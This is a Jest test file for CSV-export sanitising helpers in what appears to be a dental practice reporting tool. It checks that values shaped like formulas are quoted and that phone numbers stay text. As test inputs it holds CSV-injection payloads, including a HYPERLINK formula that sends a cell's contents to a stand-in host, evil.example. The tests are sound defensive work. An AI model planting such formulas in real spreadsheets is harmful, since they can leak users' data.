import { safeCell, textCell } from '../../../core/report/cells';
import { huddleRow } from '../../../core/report/huddle';

describe('safeCell (OWASP CSV injection)', () => {
	it.each([
		['=HYPERLINK("https://evil.example/?d="&A1,"Click")', `'=HYPERLINK("https://evil.example/?d="&A1,"Click")`],
		['+1 512 555 0100', "'+1 512 555 0100"],
		['-2+3', "'-2+3"],
		['@SUM(A1:A9)', "'@SUM(A1:A9)"],
		['\t=1+1', "'\t=1+1"],
		['\r=1+1', "'\r=1+1"],
		['=', "'="],
	])('quotes %p', (value, expected) => {
		expect(safeCell(value)).toBe(expected);
	});
	it.each(['Maria Lopez', 'crown', "O'Brien", ' =1+1', 'a=b', '', 'Dr. Rivera'])('leaves %p as it is', (value) => {
		expect(safeCell(value)).toBe(value);
	});
	it('keeps numbers, booleans and blanks what they are', () => {
		expect([-3, 0, 1400.5, true, false, null].map(safeCell)).toEqual([-3, 0, 1400.5, true, false, null]);
	});
});

describe('textCell (phones stay text)', () => {
	it.each([
		['+15125550100', "'+15125550100"],
		['5125550100', "'5125550100"],
		['0044 20 7946 0000', '0044 20 7946 0000'],
		['(512) 555-0100', '(512) 555-0100'],
		['=1+1', "'=1+1"],
		['', ''],
	])('%p becomes %p', (value, expected) => {
		expect(textCell(value)).toBe(expected);
	});
	it('reads nothing as blank', () => {
		expect(textCell(null)).toBe('');
		expect(textCell(undefined)).toBe('');
	});
});

describe('huddleRow', () => {
	const item = (patient: Record<string, unknown>, over: Record<string, unknown> = {}) => ({
		patient: { id: '501', firstName: 'Maria', lastName: 'Lopez', mobile: '+15125550123', ...patient },
		category: 'crown',
		totalFee: 3200,
		ageDays: 4,
		provider: 'DOC1',
		contactability: { sms: true, email: true },
		...over,
	});

	it('gives the huddle columns in order, phone as text', () => {
		const row = huddleRow(item({}));
		expect(Object.keys(row)).toEqual([
			'Patient',
			'Chart',
			'Mobile',
			'Treatment',
			'Value',
			'Days Waiting',
			'Provider',
			'Can Text',
		]);
		expect(row).toEqual({
			Patient: 'Maria Lopez',
			Chart: '501',
			Mobile: "'+15125550123",
			Treatment: 'Crown',
			Value: 3200,
			'Days Waiting': 4,
			Provider: 'DOC1',
			'Can Text': true,
		});
	});
	it('quotes every text the PMS gave that starts like a formula', () => {
		const row = huddleRow(
			item(
				{ firstName: '=HYPERLINK("https://evil.example","x")', lastName: '' },
				{ provider: '@SUM(1)', category: '-2+3' },
			),
		);
		expect(row.Patient).toBe(`'=HYPERLINK("https://evil.example","x")`);
		expect(row.Provider).toBe("'@SUM(1)");
		expect(row.Treatment).toBe("'-2+3");
		expect(huddleRow(item({ firstName: '', lastName: '+1 512 555 0100' })).Patient).toBe("'+1 512 555 0100");
	});
	it('leaves missing values blank', () => {
		expect(huddleRow({ category: 'ortho_cosmetic' }).Treatment).toBe('Braces or cosmetic');
		expect(huddleRow({})).toEqual({
			Patient: '',
			Chart: '',
			Mobile: '',
			Treatment: '',
			Value: null,
			'Days Waiting': null,
			Provider: '',
			'Can Text': false,
		});
		expect(huddleRow(item({ mobile: null })).Mobile).toBe('');
	});
});
